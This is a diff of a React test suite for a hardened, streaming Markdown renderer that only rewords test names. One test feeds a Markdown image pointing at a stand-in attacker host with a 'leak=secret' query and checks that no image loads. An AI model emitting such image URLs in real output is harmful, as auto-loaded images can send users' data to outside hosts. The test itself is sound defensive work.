@@ -7,14 +7,14 @@ const show = (text: string, growing = false) =>
   render(<Markdown text={text} growing={growing} />).container;
 
 describe('hardened Markdown', () => {
-  it('loads no picture, but offers it as a link', () => {
+  it('shows a link instead of an image', () => {
     const page = show('![chart](https://evil.example/p.png?leak=secret)');
     expect(page.querySelector('img')).toBeNull();
     expect(page.innerHTML).not.toMatch(/background|src=/);
     expect(screen.getByRole('link').getAttribute('href')).toContain('https://evil.example/');
   });
 
-  it('opens links elsewhere, without a way back', () => {
+  it('opens links in a new tab without access to this page', () => {
     show('[docs](https://example.com/a)');
     const link = screen.getByRole('link');
     expect(link.getAttribute('rel')).toBe('noopener noreferrer');
@@ -48,7 +48,7 @@ describe('hardened Markdown', () => {
     expect(page.textContent).toContain('and on');
   });
 
-  it('lets wide tables scroll in themselves', () => {
+  it('lets wide tables scroll horizontally', () => {
     const page = show('| a | b |\n|---|---|\n| 1 | 2 |');
     expect(page.querySelector('.table-scroll > table')).not.toBeNull();
   });
@@ -65,13 +65,13 @@ describe('growing Markdown', () => {
     expect(page.textContent).not.toMatch(/[*`]/);
   });
 
-  it('shows the words of a link whose address is not there yet', () => {
+  it('shows the text of a link whose address is incomplete', () => {
     const page = show('see [the docs](https://exa', true);
     expect(page.textContent).toBe('see the docs');
     expect(page.querySelector('a')).toBeNull();
   });
 
-  it('offers to copy code once it is closed', () => {
+  it('offers to copy code when it is complete', () => {
     const open = show('```python\nx = 1', true);
     expect(open.querySelector('button')).toBeNull();
     const closed = show('```python\nx = 1\n```\n', true);
